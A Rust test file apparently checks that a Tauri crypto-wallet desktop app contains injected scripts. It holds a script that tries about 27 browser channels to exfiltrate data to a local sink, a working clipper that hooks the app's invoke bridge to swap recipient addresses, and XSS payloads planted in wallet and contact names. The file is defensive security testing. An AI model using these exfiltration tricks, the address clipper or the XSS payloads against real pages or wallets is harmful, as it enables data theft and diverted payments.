//! A script that got into the main window: it gets nothing out, and what it rewrites is seen in the confirm window.

use bursar_test_support::length::repeats;
use bursar_tests::app::{self, App, pause};
use bursar_tests::test_desktop::{Keyring, TestDesktop};
use bursar_tests::{Result, attack, fail, first_day, prepared};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use thirtyfour::By;

const OUT: &str = "Ways out of an injected script";
const REWRITTEN: &str = "Addresses rewritten by an injected script";

/// Where stolen data would arrive: what was asked for, and how often somebody connected at all.
struct Sink {
    base: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Sink {
    fn open() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let base = format!("http://{}", listener.local_addr()?);
        let seen: Arc<Mutex<Vec<String>>> = Arc::default();
        let log = seen.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let log = log.clone();
                // One that connects and says nothing must not keep the others waiting.
                std::thread::spawn(move || visit(stream, &log));
            }
        });
        Ok(Self { base, seen })
    }

    /// The ways that arrived, without the pages that a test itself opens.
    fn ways(&self) -> BTreeSet<String> {
        let Ok(seen) = self.seen.lock() else { return BTreeSet::new() };
        seen.iter().filter(|way| *way != "start" && *way != "favicon.ico").cloned().collect()
    }
}

fn visit(mut stream: std::net::TcpStream, log: &Mutex<Vec<String>>) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(3)));
    let mut bytes = [0; 2048];
    let count = stream.read(&mut bytes).unwrap_or_default();
    let line = String::from_utf8_lossy(&bytes[..count]);
    let way = line.split([' ', '?']).nth(1).map_or("a connection", |path| path.trim_start_matches('/'));
    if let Ok(mut log) = log.lock() {
        log.push(way.to_owned());
    }
    let _ = stream.write_all(
        b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/html\r\nContent-Length: 21\r\nConnection: close\r\n\r\n<!doctype html><p>hi.",
    );
}

/// Tries every way to bring a word to the sink; the last ones leave the page. Gives how many were tried.
const WAYS: &str = r#"
    const [sink, done] = arguments
    const to = way => `${sink}/${way}?word=stolen`
    const add = (tag, set, parent = document.head) => parent.appendChild(Object.assign(document.createElement(tag), set))
    const link = (rel, more = {}) => add('link', { rel, href: to(`link-${rel}`), ...more })
    const ways = {
        fetch: () => fetch(to('fetch'), { mode: 'no-cors' }).catch(() => {}),
        xhr: () => { const ask = new XMLHttpRequest(); ask.open('GET', to('xhr')); ask.send() },
        image: () => { new Image().src = to('image') },
        beacon: () => navigator.sendBeacon(to('beacon'), 'stolen'),
        socket: () => new WebSocket(to('socket').replace('http', 'ws')),
        events: () => new EventSource(to('events')),
        style: () => { const box = add('div', {}, document.body); box.style.backgroundImage = `url(${to('style')})` },
        sheet: () => link('stylesheet'),
        prefetch: () => link('prefetch'),
        preload: () => link('preload', { as: 'image' }),
        modulepreload: () => link('modulepreload'),
        preconnect: () => link('preconnect'),
        icon: () => link('icon'),
        font: () => new FontFace('stolen', `url(${to('font')})`).load().catch(() => {}),
        frame: () => add('iframe', { src: to('frame') }, document.body),
        video: () => { const film = add('video', { src: to('video'), preload: 'auto' }, document.body); film.load() },
        object: () => add('object', { data: to('object') }, document.body),
        script: () => add('script', { src: to('script') }),
        module: () => import(to('module')).catch(() => {}),
        worker: () => new Worker(to('worker')),
        form: () => { const form = add('form', { action: to('form'), method: 'post' }, document.body); form.submit() },
        formNew: () => { const form = add('form', { action: to('form-new'), target: '_blank' }, document.body); form.submit() },
        open: () => window.open(to('open')),
        ping: () => { const a = add('a', { href: '#', ping: to('ping') }, document.body); a.click() },
        download: () => { const a = add('a', { href: to('download'), download: 'x' }, document.body); a.click() },
        refresh: () => add('meta', { httpEquiv: 'refresh', content: `0;url=${to('refresh')}` }),
        location: () => { location.href = to('location') },
    }
    let tried = 0
    for (const way of Object.keys(ways)) { tried++; try { ways[way]() } catch {} }
    done(tried)
"#;

/// What a script must not be able to do to the page it is in.
const SPOIL: &str = r#"
    const taken = []
    const may = (name, act) => { try { if (act()) taken.push(name) } catch {} }
    may('eval', () => (0, eval)('1 + 1') === 2)
    may('Function', () => new Function('return 1')() === 1)
    may('markup', () => { const box = document.createElement('div'); box.innerHTML = '<b>x</b>'; return box.firstChild })
    may('a second policy', () => window.trustedTypes.createPolicy('mine', { createHTML: text => text }))
    may('prototype', () => { Object.prototype.stolen = 1; return {}.stolen === 1 })
    return taken
"#;

#[tokio::test]
async fn a_script_in_the_page_gets_no_word_out() -> Result {
    let desktop = TestDesktop::new(Keyring::Unlocked)?;
    let app = App::open(&desktop, &desktop.folder("app")).await?;
    app.find("button", "Try it with the sandbox").await?;
    let spoiled: Vec<String> = app.driver()?.execute(SPOIL, vec![]).await?.convert()?;
    if !spoiled.is_empty() {
        return fail(format!("a script may use {spoiled:?}"));
    }
    let sink = Sink::open()?;
    let tried: usize = app.driver()?.execute_async(WAYS, vec![sink.base.clone().into()]).await?.convert()?;
    pause(4_000).await;
    let leaked = sink.ways();
    if app.driver()?.windows().await?.len() != 1 {
        return fail("a script opened a window");
    }
    app.find("button", "Try it with the sandbox").await?;
    app.close().await?;

    // The same script in the same engine, on a page that nobody guards.
    let open = Sink::open()?;
    let (browser, _service) = app::plain_browser(&desktop).await?;
    browser.goto(format!("{}/start", open.base)).await?;
    let _ = browser.execute_async(WAYS, vec![open.base.clone().into()]).await;
    for _ in 0..80 {
        if open.ways().len() > 8 {
            break;
        }
        pause(50).await;
    }
    browser.quit().await?;
    attack::control(OUT, "a page without policy and guard lets out", open.ways().len());
    if !leaked.is_empty() {
        println!("got out: {leaked:?}");
    }
    attack::held(OUT, tried, tried - leaked.len().min(tried));
    Ok(())
}

/// Rewrites every address in every call, as clippers of the clipboard and of packages do.
const CLIPPER: &str = r#"
    const attacker = arguments[0]
    window.__real ??= window.__TAURI_INTERNALS__.invoke
    const clipped = value => JSON.parse(JSON.stringify(value).replace(/0x[0-9a-fA-F]{40}/g, attacker))
    const invoke = (command, input, options) => window.__real(command, clipped(input ?? {}), options)
    try { window.__TAURI_INTERNALS__.invoke = invoke } catch {}
    try { Object.defineProperty(window.__TAURI_INTERNALS__, 'invoke', { value: invoke, configurable: true }) } catch {}
    window.__clipped = invoke
"#;
const CALL: &str = r#"
    const [command, input, done] = arguments
    window.__clipped(command, input).then(value => done({ value }), fault => done({ fault }))
"#;

#[tokio::test]
async fn an_address_that_a_script_rewrites_is_seen_in_the_confirm_window() -> Result {
    let runs = repeats(40, 100);
    let (_desk, app, wallet) = prepared::open().await?;
    let token = first_day::token(&app, "ETH-SEPOLIA", "ETH").await?;
    let (mut seen, mut rewritten) = (0, 0);
    for run in 0..runs {
        let (meant, attacker) = (first_day::stranger(run), first_day::stranger(run + 10_000));
        app.driver()?.execute(CLIPPER, vec![attacker.clone().into()]).await?;
        let input = json!({ "walletId": wallet, "tokenId": token["id"], "destinationAddress": meant, "amount": "0.01", "feeLevel": "MEDIUM" });
        let call = json!({ "input": input, "note": { "reference": format!("Run {run}") } });
        let answer: Value = app.driver()?.execute_async(CALL, vec!["transaction_transfer".into(), call]).await?.json().clone();
        if answer["value"]["draftId"].is_null() {
            return fail(format!("the draft was refused: {answer}"));
        }
        app.confirm().await?;
        app.find("button", "Send …").await?;
        let shown = app.driver()?.execute(ADDRESS, vec![]).await?.convert::<String>()?;
        rewritten += usize::from(!shown.eq_ignore_ascii_case(&meant));
        // Whole, letter by letter, and the address that was meant nowhere.
        let page: String = app.text().await?.split_whitespace().collect::<String>().to_lowercase();
        seen += usize::from(shown.eq_ignore_ascii_case(&attacker) && !page.contains(&meant.to_lowercase()));
        // The window may be gone before the driver has said that it pressed.
        let _ = app.driver()?.find(By::Css("#refuse")).await?.click().await;
        app.confirm_is_gone().await?;
    }
    attack::control(REWRITTEN, "drafts that a script in the main window did rewrite", rewritten);
    attack::held(REWRITTEN, usize::try_from(runs)?, seen);
    if first_day::wallets(&app).await?.is_empty() {
        return fail("the window does not work any more");
    }
    app.close().await
}

/// The address of the payee as the confirm window shows it, without the spaces between its groups.
const ADDRESS: &str = "return document.querySelector('.to .address').textContent.replace(/\\s/g, '')";

/// Markup in names stays text in the windows that show it, and none of it runs or asks for anything.
#[tokio::test]
async fn hostile_text_in_names_is_text_and_nothing_else() -> Result {
    let desktop = TestDesktop::new(Keyring::Unlocked)?;
    let app = App::open(&desktop, &desktop.folder("app")).await?;
    first_day::open_sandbox(&app).await?;
    let sink = Sink::open()?;
    let set = app.command("wallet_set_create_developer", json!({ "name": format!("<img src={}/image onerror=window.__ran=1>", sink.base) })).await?;
    let names = [
        format!("<script>window.__ran=1;fetch('{}/fetch')</script>", sink.base),
        format!("\"><svg/onload=window.__ran=1><link rel=stylesheet href={}/sheet>", sink.base),
        "javascript:window.__ran=1".to_owned(),
        "Pay\u{202E}lortap".to_owned(),
        "{{constructor.constructor('window.__ran=1')()}}".to_owned(),
    ];
    for (number, name) in names.iter().enumerate() {
        let input = json!({ "walletSetId": set["id"], "blockchains": ["ETH-SEPOLIA"], "username": name, "userRefId": format!("hostile-{number}") });
        app.command("wallet_create_developer", input).await?;
    }
    let methods = json!([{ "details": { "kind": "wallet", "address": first_day::stranger(1) } }]);
    app.command(
        "contact_save",
        json!({ "kind": "company", "name": names[0], "tags": [names[1].chars().take(20).collect::<String>()], "note": names[1], "methods": methods }),
    )
    .await?;
    let mut shown = 0;
    for (link, heading) in [("Wallets", "…img src…"), ("Contacts", "…script…")] {
        app.click("link", link).await?;
        app.sees(heading.trim_matches('…')).await?;
        let found = app
            .driver()?
            .execute("return document.querySelectorAll('#root script, #root img[src^=http], #root svg[onload], #root link').length", vec![])
            .await?;
        if found.convert::<u64>()? > 0 {
            return fail(format!("a name became markup under {link}"));
        }
        shown += usize::from(app.text().await?.contains('<'));
    }
    let ran: bool = app.driver()?.execute("return window.__ran !== undefined", vec![]).await?.convert()?;
    if ran || !sink.ways().is_empty() {
        return fail(format!("a name ran: {ran}, asked for {:?}", sink.ways()));
    }
    attack::held("Hostile text", names.len() + 1, names.len() + 1);
    attack::control("Hostile text", "lists that show the markup as letters", shown);
    app.close().await
}
